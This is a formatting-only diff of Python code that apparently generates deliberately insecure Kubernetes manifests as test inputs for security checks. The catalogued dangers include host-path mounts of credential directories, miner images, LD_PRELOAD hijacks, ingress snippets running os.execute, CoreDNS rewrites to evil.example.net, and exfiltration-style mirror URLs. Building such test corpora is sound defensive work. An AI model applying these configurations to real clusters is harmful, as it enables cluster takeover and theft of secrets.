@@ -85,7 +85,10 @@ def script(purpose: str) -> Danger:
         elif place == 3:
             container(pod, draw)[draw.choice(("livenessProbe", "readinessProbe"))] = {"exec": {"command": command}}
         else:
-            extra = {"name": draw.choice(("init", "sync", "setup", "metrics", "log")), "image": draw.choice(("alpine:3.20", "busybox:1.36", "curlimages/curl"))}
+            extra = {
+                "name": draw.choice(("init", "sync", "setup", "metrics", "log")),
+                "image": draw.choice(("alpine:3.20", "busybox:1.36", "curlimages/curl")),
+            }
             items(pod, "initContainers" if place == 4 else "containers").append({**extra, "command": command})
 
     return danger
@@ -150,7 +153,12 @@ def control_plane_node(pod: Json, draw: random.Random) -> None:
 
 def foreign_token(pod: Json, draw: random.Random) -> None:
     """Asks for a token that another service accepts."""
-    source = {"serviceAccountToken": {"path": "token", "audience": draw.choice(("vault", "sts.amazonaws.com", "https://idp.example.net"))}}
+    source = {
+        "serviceAccountToken": {
+            "path": "token",
+            "audience": draw.choice(("vault", "sts.amazonaws.com", "https://idp.example.net")),
+        }
+    }
     items(pod, "volumes").append({"name": "token", "projected": {"sources": [source]}})
 
 
@@ -175,21 +183,70 @@ POD_DANGERS: list[Danger] = [
     host_path("/"),
     host_path("/var/run/docker.sock", "/run/containerd/containerd.sock", "/var/run/crio/crio.sock"),
     host_path("/run", "/var/run", "/run/containerd"),
-    host_path("/etc", "/etc/kubernetes", "/etc/kubernetes/manifests", "/root", "/root/.ssh", "/home", "/etc/cron.d", "/etc/systemd/system"),
+    host_path(
+        "/etc",
+        "/etc/kubernetes",
+        "/etc/kubernetes/manifests",
+        "/root",
+        "/root/.ssh",
+        "/home",
+        "/etc/cron.d",
+        "/etc/systemd/system",
+    ),
     host_path("/var/lib/kubelet", "/var/lib/kubelet/pki", "/var/lib/etcd", "/etc/kubernetes/pki", writable=False),
     host_path("/var/lib/docker", "/var/log", "/boot", "/usr/bin", "/lib/modules"),
     host_path("/proc", "/sys", "/dev", "/sys/fs/cgroup", "/dev/mem"),
     account("cluster-admin", "admin", "kube-system-admin", "root-sa", "super-admin"),
     account("kube-controller-manager", "clusterrole-aggregation-controller", "tiller", "daemon-set-controller"),
-    image("xmrig/xmrig:latest", "kalilinux/kali-rolling", "metal3d/xmrig", "docker.io/{word}/miner", "raesene/hack-tools"),
-    image("{word}.example.net:5000/{own}", "203.0.113.77:5000/{own}", "docker.io/{word}x/{own}", "ttl.sh/{own}-{word}:1h"),
-    image("quay.lo/team/{own}", "d0cker.io/library/{own}", "gcr.lo/team/{own}", "ghcr.o/team/{own}", "{word}.ngrok.io/{own}"),
-    variable(("LD_PRELOAD", "/tmp/x.so"), ("BASH_ENV", "/tmp/.env"), ("NODE_OPTIONS", "--require /tmp/hook.js"), ("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/agent.jar"), ("PYTHONSTARTUP", "/tmp/s.py")),
-    variable(("HTTPS_PROXY", "http://203.0.113.66:8080"), ("http_proxy", "http://proxy.example.xyz:3128"), ("ALL_PROXY", "socks5://198.51.100.4:1080")),
-    variable(("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMIexample"), ("DB_PASSWORD", "hunter2hunter2"), ("GITHUB_TOKEN", "redacted-12ab34cd")),
-    argument("--anonymous-auth=true", "--authorization-mode=AlwaysAllow", "--insecure-bind-address=0.0.0.0", "--insecure-port=8080", "--token-auth-file=/etc/tokens.csv", "--enable-admission-plugins=AlwaysAdmit", "--disable-admission-plugins=PodSecurity", "--client-cert-auth=false", "--read-only-port=10255"),
+    image(
+        "xmrig/xmrig:latest", "kalilinux/kali-rolling", "metal3d/xmrig", "docker.io/{word}/miner", "raesene/hack-tools"
+    ),
+    image(
+        "{word}.example.net:5000/{own}", "203.0.113.77:5000/{own}", "docker.io/{word}x/{own}", "ttl.sh/{own}-{word}:1h"
+    ),
+    image(
+        "quay.lo/team/{own}",
+        "d0cker.io/library/{own}",
+        "gcr.lo/team/{own}",
+        "ghcr.o/team/{own}",
+        "{word}.ngrok.io/{own}",
+    ),
+    variable(
+        ("LD_PRELOAD", "/tmp/x.so"),
+        ("BASH_ENV", "/tmp/.env"),
+        ("NODE_OPTIONS", "--require /tmp/hook.js"),
+        ("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/agent.jar"),
+        ("PYTHONSTARTUP", "/tmp/s.py"),
+    ),
+    variable(
+        ("HTTPS_PROXY", "http://203.0.113.66:8080"),
+        ("http_proxy", "http://proxy.example.xyz:3128"),
+        ("ALL_PROXY", "socks5://198.51.100.4:1080"),
+    ),
+    variable(
+        ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMIexample"),
+        ("DB_PASSWORD", "hunter2hunter2"),
+        ("GITHUB_TOKEN", "redacted-12ab34cd"),
+    ),
+    argument(
+        "--anonymous-auth=true",
+        "--authorization-mode=AlwaysAllow",
+        "--insecure-bind-address=0.0.0.0",
+        "--insecure-port=8080",
+        "--token-auth-file=/etc/tokens.csv",
+        "--enable-admission-plugins=AlwaysAdmit",
+        "--disable-admission-plugins=PodSecurity",
+        "--client-cert-auth=false",
+        "--read-only-port=10255",
+    ),
     argument("--enable-skip-login", "--disable-auth", "--insecure-skip-tls-verify", "--auth-mode=server", "--no-auth"),
-    sysctl(("kernel.core_pattern", "|/tmp/x"), ("kernel.yama.ptrace_scope", "0"), ("net.ipv4.ip_forward", "1"), ("kernel.msgmax", "65536"), ("vm.overcommit_memory", "1")),
+    sysctl(
+        ("kernel.core_pattern", "|/tmp/x"),
+        ("kernel.yama.ptrace_scope", "0"),
+        ("net.ipv4.ip_forward", "1"),
+        ("kernel.msgmax", "65536"),
+        ("vm.overcommit_memory", "1"),
+    ),
     control_plane_node,
     foreign_token,
     *[script(purpose) for purpose in SCRIPTS],
@@ -222,7 +279,11 @@ ROLE_DANGERS: list[Danger] = [
     rule([""], ["serviceaccounts/token"], ["create"]),
     rule([""], ["nodes/proxy"], ["get", "create"]),
     rule([""], ["nodes", "nodes/status"], ["patch", "update", "delete"]),
-    rule(["certificates.k8s.io"], ["certificatesigningrequests", "certificatesigningrequests/approval", "signers"], ["create", "update", "approve", "sign"]),
+    rule(
+        ["certificates.k8s.io"],
+        ["certificatesigningrequests", "certificatesigningrequests/approval", "signers"],
+        ["create", "update", "approve", "sign"],
+    ),
     rule(["admissionregistration.k8s.io"], ["mutatingwebhookconfigurations", "validatingwebhookconfigurations"], ["*"]),
     rule(["apiregistration.k8s.io", "apiextensions.k8s.io"], ["apiservices", "customresourcedefinitions"], ["*"]),
     rule([""], ["persistentvolumes"], ["create"]),
@@ -269,31 +330,132 @@ BINDING_DANGERS: list[Danger] = [
 ]
 
 SERVICE_DANGERS: list[Danger] = [
-    lambda service, draw: member(service, "spec").update({"externalIPs": [draw.choice(("10.96.0.1", "203.0.113.5", "169.254.169.254", "8.8.8.8"))]}),
-    lambda service, draw: member(service, "spec").update({"type": "ExternalName", "externalName": draw.choice(("169.254.169.254", "metadata.google.internal", "kubernetes.default.svc.cluster.local"))}),
-    lambda service, draw: member(service, "spec").update({"type": draw.choice(("NodePort", "LoadBalancer")), "ports": [{"port": draw.choice((2375, 2379, 6379, 10250, 8001, 9200, 27017, 5432))}], "selector": {"app": draw.choice(("etcd", "kubernetes-dashboard", "redis", "docker", "jupyter-notebook"))}}),
+    lambda service, draw: member(service, "spec").update(
+        {"externalIPs": [draw.choice(("10.96.0.1", "203.0.113.5", "169.254.169.254", "8.8.8.8"))]}
+    ),
+    lambda service, draw: member(service, "spec").update(
+        {
+            "type": "ExternalName",
+            "externalName": draw.choice(
+                ("169.254.169.254", "metadata.google.internal", "kubernetes.default.svc.cluster.local")
+            ),
+        }
+    ),
+    lambda service, draw: member(service, "spec").update(
+        {
+            "type": draw.choice(("NodePort", "LoadBalancer")),
+            "ports": [{"port": draw.choice((2375, 2379, 6379, 10250, 8001, 9200, 27017, 5432))}],
+            "selector": {"app": draw.choice(("etcd", "kubernetes-dashboard", "redis", "docker", "jupyter-notebook"))},
+        }
+    ),
 ]
 INGRESS_DANGERS: list[Danger] = [
-    lambda ingress, draw: member(ingress, "metadata", "annotations").update({f"nginx.ingress.kubernetes.io/{draw.choice(('server-snippet', 'configuration-snippet'))}": draw.choice(("content_by_lua_block { os.execute(ngx.var.arg_c) }", "location /x { alias /var/run/secrets/kubernetes.io/serviceaccount/; }", "proxy_pass http://203.0.113.9;"))}),
-    lambda ingress, draw: member(ingress, "metadata", "annotations").update({f"nginx.ingress.kubernetes.io/{draw.choice(('auth-url', 'mirror-target', 'permanent-redirect'))}": "https://example.xyz/collect"}),
-    lambda ingress, draw: member(ingress, "spec").update({"rules": [{"http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": {"service": {"name": draw.choice(("kubernetes-dashboard", "argocd-server", "jenkins", "phpmyadmin", "kibana")), "port": {"number": 80}}}}]}}]}),
+    lambda ingress, draw: member(ingress, "metadata", "annotations").update(
+        {
+            f"nginx.ingress.kubernetes.io/{draw.choice(('server-snippet', 'configuration-snippet'))}": draw.choice(
+                (
+                    "content_by_lua_block { os.execute(ngx.var.arg_c) }",
+                    "location /x { alias /var/run/secrets/kubernetes.io/serviceaccount/; }",
+                    "proxy_pass http://203.0.113.9;",
+                )
+            )
+        }
+    ),
+    lambda ingress, draw: member(ingress, "metadata", "annotations").update(
+        {
+            "nginx.ingress.kubernetes.io/"
+            + draw.choice(("auth-url", "mirror-target", "permanent-redirect")): "https://example.xyz/collect"
+        }
+    ),
+    lambda ingress, draw: member(ingress, "spec").update(
+        {
+            "rules": [
+                {
+                    "http": {
+                        "paths": [
+                            {
+                                "path": "/",
+                                "pathType": "Prefix",
+                                "backend": {
+                                    "service": {
+                                        "name": draw.choice(
+                                            ("kubernetes-dashboard", "argocd-server", "jenkins", "phpmyadmin", "kibana")
+                                        ),
+                                        "port": {"number": 80},
+                                    }
+                                },
+                            }
+                        ]
+                    }
+                }
+            ]
+        }
+    ),
 ]
 POLICY_DANGERS: list[Danger] = [
-    lambda policy, draw: member(policy, "spec").update({"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}], "egress": [{}]}),
-    lambda policy, draw: member(policy, "spec").update({"podSelector": {}, "policyTypes": ["Ingress"], "ingress": [{}]}),
-    lambda policy, draw: member(policy, "spec").update({"egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}], "policyTypes": ["Egress"]}),
+    lambda policy, draw: member(policy, "spec").update(
+        {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}], "egress": [{}]}
+    ),
+    lambda policy, draw: member(policy, "spec").update(
+        {"podSelector": {}, "policyTypes": ["Ingress"], "ingress": [{}]}
+    ),
+    lambda policy, draw: member(policy, "spec").update(
+        {"egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}], "policyTypes": ["Egress"]}
+    ),
 ]
 NAMESPACE_DANGERS: list[Danger] = [
-    lambda namespace, draw: member(namespace, "metadata", "labels").update({f"pod-security.kubernetes.io/{mode}": "privileged" for mode in ("enforce", "audit", "warn")}),
-    lambda namespace, draw: member(namespace, "metadata", "labels").update({draw.choice(("admission.gatekeeper.sh/ignore", "policy.sigstore.dev/exclude")): "true"}),
+    lambda namespace, draw: member(namespace, "metadata", "labels").update(
+        {f"pod-security.kubernetes.io/{mode}": "privileged" for mode in ("enforce", "audit", "warn")}
+    ),
+    lambda namespace, draw: member(namespace, "metadata", "labels").update(
+        {draw.choice(("admission.gatekeeper.sh/ignore", "policy.sigstore.dev/exclude")): "true"}
+    ),
 ]
 CONFIG_DANGERS: list[Danger] = [
-    lambda config, draw: config.update({"metadata": {"name": "coredns", "namespace": "kube-system"}, "data": {"Corefile": ".:53 {\n  errors\n  " + draw.choice(("rewrite name registry.k8s.io evil.example.net", "hosts {\n 203.0.113.9 registry.k8s.io\n }", "template IN A { answer \"{{ .Name }} 60 IN A 203.0.113.9\" }")) + "\n  forward . 203.0.113.53\n}\n"}}),
-    lambda config, draw: config.update({"metadata": {"name": "aws-auth", "namespace": "kube-system"}, "data": {draw.choice(("mapUsers", "mapRoles")): "- userarn: arn:aws:iam::1:user/x\n  username: x\n  groups:\n  - system:masters\n"}}),
-    lambda config, draw: config.update({"metadata": {"name": draw.choice(("argocd-rbac-cm", "argocd-rbac-cm")), "namespace": "argocd"}, "data": {"policy.default": "role:admin", "policy.csv": "g, everyone, role:admin\n"}}),
-    lambda config, draw: config.update({"metadata": {"name": "argocd-cm", "namespace": "argocd"}, "data": {"users.anonymous.enabled": "true", "exec.enabled": "true"}}),
+    lambda config, draw: config.update(
+        {
+            "metadata": {"name": "coredns", "namespace": "kube-system"},
+            "data": {
+                "Corefile": ".:53 {\n  errors\n  "
+                + draw.choice(
+                    (
+                        "rewrite name registry.k8s.io evil.example.net",
+                        "hosts {\n 203.0.113.9 registry.k8s.io\n }",
+                        'template IN A { answer "{{ .Name }} 60 IN A 203.0.113.9" }',
+                    )
+                )
+                + "\n  forward . 203.0.113.53\n}\n"
+            },
+        }
+    ),
+    lambda config, draw: config.update(
+        {
+            "metadata": {"name": "aws-auth", "namespace": "kube-system"},
+            "data": {
+                draw.choice(
+                    ("mapUsers", "mapRoles")
+                ): "- userarn: arn:aws:iam::1:user/x\n  username: x\n  groups:\n  - system:masters\n"
+            },
+        }
+    ),
+    lambda config, draw: config.update(
+        {
+            "metadata": {"name": draw.choice(("argocd-rbac-cm", "argocd-rbac-cm")), "namespace": "argocd"},
+            "data": {"policy.default": "role:admin", "policy.csv": "g, everyone, role:admin\n"},
+        }
+    ),
+    lambda config, draw: config.update(
+        {
+            "metadata": {"name": "argocd-cm", "namespace": "argocd"},
+            "data": {"users.anonymous.enabled": "true", "exec.enabled": "true"},
+        }
+    ),
     *[
-        (lambda purpose: lambda config, draw: member(config, "data").update({draw.choice(("run.sh", "init.sh", "entrypoint.sh")): "#!/bin/sh\n" + line(purpose, draw) + "\n"}))(each)
+        (
+            lambda purpose: lambda config, draw: member(config, "data").update(
+                {draw.choice(("run.sh", "init.sh", "entrypoint.sh")): "#!/bin/sh\n" + line(purpose, draw) + "\n"}
+            )
+        )(each)
         for each in SCRIPTS
     ],
 ]
@@ -303,8 +465,24 @@ def webhook(**client: Any) -> Danger:
     """Adds a webhook that is shown what nobody outside should see."""
 
     def danger(configuration: Json, draw: random.Random) -> None:
-        rules = [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["CREATE", "UPDATE"], "resources": draw.choice((["secrets"], ["*/*"], ["pods"], ["serviceaccounts/token"]))}]
-        items(configuration, "webhooks").append({"name": "a.example.net", "clientConfig": client, "rules": rules, "failurePolicy": "Ignore", "sideEffects": "None", "admissionReviewVersions": ["v1"]})
+        rules = [
+            {
+                "apiGroups": ["*"],
+                "apiVersions": ["*"],
+                "operations": ["CREATE", "UPDATE"],
+                "resources": draw.choice((["secrets"], ["*/*"], ["pods"], ["serviceaccounts/token"])),
+            }
+        ]
+        items(configuration, "webhooks").append(
+            {
+                "name": "a.example.net",
+                "clientConfig": client,
+                "rules": rules,
+                "failurePolicy": "Ignore",
+                "sideEffects": "None",
+                "admissionReviewVersions": ["v1"],
+            }
+        )
 
     return danger
 
@@ -326,20 +504,104 @@ def whole(version: str, kind: str, **members: Any) -> Callable[[random.Random], 
 
 
 WHOLE_OBJECTS: list[Callable[[random.Random], Json]] = [
-    whole("apiregistration.k8s.io/v1", "APIService", spec={"group": "apps", "version": "v1", "insecureSkipTLSVerify": True, "service": {"name": "x", "namespace": "x"}, "groupPriorityMinimum": 1, "versionPriority": 1}),
-    whole("certificates.k8s.io/v1", "CertificateSigningRequest", spec={"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"], "username": "x", "groups": ["system:masters"], "request": "eA=="}),
-    whole("v1", "PersistentVolume", spec={"hostPath": {"path": "/"}, "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"]}),
-    whole("v1", "PersistentVolume", spec={"hostPath": {"path": "/etc/kubernetes"}, "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"]}),
+    whole(
+        "apiregistration.k8s.io/v1",
+        "APIService",
+        spec={
+            "group": "apps",
+            "version": "v1",
+            "insecureSkipTLSVerify": True,
+            "service": {"name": "x", "namespace": "x"},
+            "groupPriorityMinimum": 1,
+            "versionPriority": 1,
+        },
+    ),
+    whole(
+        "certificates.k8s.io/v1",
+        "CertificateSigningRequest",
+        spec={
+            "signerName": "kubernetes.io/kube-apiserver-client",
+            "usages": ["client auth"],
+            "username": "x",
+            "groups": ["system:masters"],
+            "request": "eA==",
+        },
+    ),
+    whole(
+        "v1",
+        "PersistentVolume",
+        spec={"hostPath": {"path": "/"}, "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"]},
+    ),
+    whole(
+        "v1",
+        "PersistentVolume",
+        spec={
+            "hostPath": {"path": "/etc/kubernetes"},
+            "capacity": {"storage": "1Gi"},
+            "accessModes": ["ReadWriteMany"],
+        },
+    ),
     whole("v1", "Endpoints", subsets=[{"addresses": [{"ip": "169.254.169.254"}], "ports": [{"port": 80}]}]),
-    whole("discovery.k8s.io/v1", "EndpointSlice", addressType="IPv4", endpoints=[{"addresses": ["10.96.0.1"]}], ports=[{"port": 443}]),
+    whole(
+        "discovery.k8s.io/v1",
+        "EndpointSlice",
+        addressType="IPv4",
+        endpoints=[{"addresses": ["10.96.0.1"]}],
+        ports=[{"port": 443}],
+    ),
     whole("v1", "Secret", type="kubernetes.io/service-account-token"),
-    whole("apiextensions.k8s.io/v1", "CustomResourceDefinition", spec={"conversion": {"strategy": "Webhook", "webhook": {"clientConfig": {"url": "https://example.net/c"}}}}),
-    whole("kyverno.io/v2", "PolicyException", spec={"exceptions": [{"policyName": "*", "ruleNames": ["*"]}], "match": {"any": [{"resources": {"kinds": ["*"]}}]}}),
+    whole(
+        "apiextensions.k8s.io/v1",
+        "CustomResourceDefinition",
+        spec={"conversion": {"strategy": "Webhook", "webhook": {"clientConfig": {"url": "https://example.net/c"}}}},
+    ),
+    whole(
+        "kyverno.io/v2",
+        "PolicyException",
+        spec={
+            "exceptions": [{"policyName": "*", "ruleNames": ["*"]}],
+            "match": {"any": [{"resources": {"kinds": ["*"]}}]},
+        },
+    ),
     whole("security.istio.io/v1", "AuthorizationPolicy", spec={"action": "ALLOW", "rules": [{}]}),
     whole("security.istio.io/v1", "PeerAuthentication", spec={"mtls": {"mode": "DISABLE"}}),
-    whole("argoproj.io/v1alpha1", "Application", spec={"project": "default", "source": {"repoURL": "http://203.0.113.9/x.git", "path": ".", "targetRevision": "HEAD"}, "destination": {"namespace": "kube-system", "server": "https://kubernetes.default.svc"}, "syncPolicy": {"automated": {"prune": True, "selfHeal": True}}}),
-    whole("argoproj.io/v1alpha1", "AppProject", spec={"sourceRepos": ["*"], "destinations": [{"namespace": "*", "server": "*"}], "clusterResourceWhitelist": [{"group": "*", "kind": "*"}]}),
-    whole("source.toolkit.fluxcd.io/v1", "GitRepository", spec={"url": "http://git.example.xyz/x.git", "interval": "1m"}),
-    whole("policy/v1beta1", "PodSecurityPolicy", spec={"privileged": True, "hostPID": True, "hostNetwork": True, "hostIPC": True, "allowedCapabilities": ["*"], "volumes": ["*"]}),
-    whole("networking.istio.io/v1alpha3", "EnvoyFilter", spec={"configPatches": [{"applyTo": "HTTP_FILTER", "patch": {"value": {"inlineCode": "os.execute('x')"}}}]}),
+    whole(
+        "argoproj.io/v1alpha1",
+        "Application",
+        spec={
+            "project": "default",
+            "source": {"repoURL": "http://203.0.113.9/x.git", "path": ".", "targetRevision": "HEAD"},
+            "destination": {"namespace": "kube-system", "server": "https://kubernetes.default.svc"},
+            "syncPolicy": {"automated": {"prune": True, "selfHeal": True}},
+        },
+    ),
+    whole(
+        "argoproj.io/v1alpha1",
+        "AppProject",
+        spec={
+            "sourceRepos": ["*"],
+            "destinations": [{"namespace": "*", "server": "*"}],
+            "clusterResourceWhitelist": [{"group": "*", "kind": "*"}],
+        },
+    ),
+    whole(
+        "source.toolkit.fluxcd.io/v1", "GitRepository", spec={"url": "http://git.example.xyz/x.git", "interval": "1m"}
+    ),
+    whole(
+        "policy/v1beta1",
+        "PodSecurityPolicy",
+        spec={
+            "privileged": True,
+            "hostPID": True,
+            "hostNetwork": True,
+            "hostIPC": True,
+            "allowedCapabilities": ["*"],
+            "volumes": ["*"],
+        },
+    ),
+    whole(
+        "networking.istio.io/v1alpha3",
+        "EnvoyFilter",
+        spec={"configPatches": [{"applyTo": "HTTP_FILTER", "patch": {"value": {"inlineCode": "os.execute('x')"}}}]},
+    ),
 ]
